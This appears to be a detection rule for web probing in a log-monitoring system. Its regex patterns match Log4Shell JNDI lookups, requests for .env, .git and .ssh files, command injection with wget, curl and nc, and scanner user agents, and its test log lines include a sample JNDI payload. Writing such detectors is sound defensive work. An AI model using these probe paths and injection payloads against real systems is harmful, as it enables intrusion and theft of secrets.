return rule {
  id          = "web.probe",
  title       = "Web probe from {ip}",
  type        = "Security",
  severity    = "medium",
  description = "Scanners and requests for files that only an attacker asks for; lookups and commands injected into requests.",
  tags        = { "attack.t1595.002", "attack.t1595.003" },
  dedup       = { "ip" },

  any = {
    [[(?i)\$(?:\{|%7b)(?:jndi|\$\{lower)(?::|%)]],
    [[(?i)\b(?:GET|POST|PUT|HEAD) /?\S*/\.(?:env|git/|aws/|ssh/|svn/|htpasswd|DS_Store)]],
    [[(?i)\b(?:GET|POST|PUT|HEAD) /?\S*(?:/wp-(?:login|config|admin)\b|/xmlrpc\.php|/phpmyadmin|/phpunit/|/cgi-bin/\S{0,80}(?:sh|cgi|pl)\b|/actuator/(?:env|heapdump)|/server-status\b|/boaform/|/HNAP1|/solr/admin|/manager/html|/vendor/phpunit)]],
    [[(?i)\b(?:GET|POST|PUT|HEAD) /?\S*(?:(?:;|%3b|\||%7c|`|%60)(?:%20|\+)?(?:wget|curl|chmod|bash|nc|cat)(?:%20|\+|\$)|/bin/(?:sh|bash)\b)]],
    [[(?i)\b(?:sqlmap|nikto|nessus|acunetix|masscan|zgrab|nuclei|wpscan|dirbuster|gobuster|ffuf|openvas|w3af|hydra|fimap)(?:/| |\()]],
    [[(?i)\bmalformed (?:host )?header\b|\binvalid method in request\b|\bclient sent (?:invalid|malformed)\b]],
    [[(?i)\bscript '?\S{0,200}(?:wp-|phpmyadmin|admin)\S{0,80}'? not found or unable to stat]],
    [[(?i)\b(?:File does not exist|script not found or unable to stat): \S{0,200}(?:wp-|phpmyadmin|pma\b|mysql|sqladmin|webmail|roundcube|horde|/~|admin|\.php|\.cgi|cgi-bin)]],
  },
  none = {
    [[(?i)(?:union(?:%20|\+)|%3cscript|<script|\.\./\.\./|%2e%2e|/\.%2e)]],    -- web.sql_injection, xss, path_traversal
  },

  tests = {
    { "dot files", log = [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET /.env HTTP/1.1" 404 91 "-" "curl/8"]], expect = 1 },
    { "JSON with a lookup", log = [[{"level":"info","service":"web","message":"user agent ${jndi:ldap://203.0.113.9/a}"}]], expect = 1 },
    { "a scanner", log = [[203.0.113.9 - - [26/Nov/2024:10:15:02 +0000] "GET / HTTP/1.1" 200 91 "-" "sqlmap/1.8"]], expect = 1 },
    { "a blog about it", log = [[192.0.2.7 - - [26/Nov/2024:10:15:02 +0000] "GET /blog/environment HTTP/1.1" 200 91 "-" "curl/8"]], expect = 0 },
    { "start", log = [[2024-11-26 10:15:02 INFO read /srv/app/.env, profile=prod]], expect = 0 },
  },
}
